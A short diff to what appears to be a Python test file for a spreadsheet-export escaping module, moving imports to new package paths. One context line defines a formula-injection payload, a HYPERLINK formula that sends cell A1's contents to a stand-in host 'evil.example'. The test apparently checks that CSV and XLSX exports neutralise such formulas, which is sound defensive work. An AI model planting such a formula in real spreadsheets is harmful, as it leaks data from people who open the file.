@@ -15,9 +15,10 @@ import pytest
 from export_registers import free_texts, full_register
 from openpyxl import load_workbook
 
-from generator.escape import FORMULA_TRIGGERS, csv_cell, formula_like, xlsx_text
 from generator.export import Options, render
-from generator.register import Register, load_register
+from generator.lint.runner import load_register
+from generator.load.register import Register
+from generator.render.escape import FORMULA_TRIGGERS, csv_cell, formula_like, xlsx_text
 
 PAYLOAD = 'HYPERLINK("http://evil.example/?leak="&A1,"clic") '
 
